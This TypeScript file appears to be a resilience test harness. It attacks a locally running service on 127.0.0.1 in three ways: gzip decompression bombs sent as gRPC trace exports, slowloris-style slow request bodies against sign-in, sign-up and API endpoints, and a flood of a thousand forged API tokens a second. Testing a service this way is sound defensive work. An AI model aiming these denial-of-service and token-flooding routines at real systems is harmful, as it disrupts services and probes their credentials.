/**
 * Attacks a service until it is killed. argv: what (streams, bodies or tokens), HTTP port, gRPC port. Every client has
 * another address of this machine than the good sender.
 */
import { randomBytes } from "node:crypto";
import { type ClientHttp2Session, connect as connectHttp2 } from "node:http2";
import { connect } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { gzipSync } from "node:zlib";
import { Agent } from "undici";

const [kind = "", httpPort = "0", grpcPort = "0"] = process.argv.slice(2);
const attacker = "127.0.0.66";
const counts = new Map<string, number>();
const count = (outcome: string) => counts.set(outcome, (counts.get(outcome) ?? 0) + 1);
process.on("SIGTERM", () => {
  console.log(JSON.stringify(Object.fromEntries(counts)));
  process.exit(0);
});

switch (kind) {
  case "streams":
    await Promise.all(Array.from({ length: 20 }, () => neverEndingStream()));
    break;
  case "bodies":
    await Promise.all(Array.from({ length: 1000 }, (_, number) => slowBody(number)));
    break;
  default:
    await badTokens();
}

/** 61 KB that inflate to 63 MB, in a call that the client never ends. A call that the service ends is begun again. */
async function neverEndingStream(): Promise<void> {
  const message = gzipSync(Buffer.alloc(63 * 2 ** 20));
  const prefix = Buffer.from([1, 0, 0, 0, 0]);
  prefix.writeUInt32BE(message.length, 1);
  for (;;) {
    const session = connectHttp2(`http://127.0.0.1:${grpcPort}`);
    session.on("error", () => undefined);
    await callOn(session, Buffer.concat([prefix, message]));
    session.destroy();
    await sleep(500);
  }
}

function callOn(session: ClientHttp2Session, message: Buffer): Promise<void> {
  return new Promise((resolve) => {
    const stream = session.request({
      ":method": "POST",
      ":path": "/opentelemetry.proto.collector.trace.v1.TraceService/Export",
      "content-type": "application/grpc",
      "grpc-encoding": "gzip",
      te: "trailers",
    });
    stream.on("error", () => undefined);
    stream.on("response", (headers) => count(`grpc-status ${String(headers["grpc-status"])}`));
    stream.on("close", () => resolve());
    session.on("close", () => resolve());
    stream.resume();
    stream.write(message);
  });
}

/** Announces a body, sends up to a megabyte of it, then a byte a second. */
async function slowBody(number: number): Promise<void> {
  const paths = ["/api/v1/sign-in", "/api/v1/sign-up", "/v1/traces", "/v1/chat/completions"];
  const path = paths[number % paths.length] ?? "";
  const announced = number % 8 < 4 ? 15 * 2 ** 20 : 16_384;
  for (;;) {
    await new Promise<void>((resolve) => {
      const socket = connect({ port: Number(httpPort), host: "127.0.0.1", localAddress: attacker });
      socket.on("error", () => undefined);
      socket.on("data", (chunk: Buffer) => count(chunk.toString("latin1").slice(9, 12)));
      socket.write(
        `POST ${path} HTTP/1.1\r\nhost: gaffe.example\r\ncontent-type: application/json\r\ncontent-length: ${announced}\r\n\r\n["`,
      );
      socket.write("a".repeat(Math.min(announced - 4000, 2 ** 20)));
      const drip = setInterval(() => void socket.write("a"), 1000);
      socket.on("close", () => {
        clearInterval(drip);
        resolve();
      });
    });
    await sleep(2000);
  }
}

/** A thousand requests a second, each with another token of the right form. */
async function badTokens(): Promise<void> {
  const agent = new Agent({ connections: 16, pipelining: 1, localAddress: attacker });
  const startedAt = performance.now();
  for (let sent = 0; ; sent++) {
    const aheadMs = sent - (performance.now() - startedAt);
    if (aheadMs > 5) await sleep(aheadMs);
    void agent
      .request({
        origin: `http://127.0.0.1:${httpPort}`,
        path: sent % 2 === 0 ? "/v1/traces" : "/api/v1/monitors",
        method: sent % 2 === 0 ? "POST" : "GET",
        headers: {
          "api-key": `gaffe_${randomBytes(36).toString("base64url")}`,
          ...(sent % 2 === 0 ? { "content-type": "application/json" } : {}),
        },
        ...(sent % 2 === 0 ? { body: "{}" } : {}),
      })
      .then(({ statusCode, body }) => {
        count(`${statusCode}`);
        return body.dump();
      })
      .catch(() => count("failed"));
  }
}
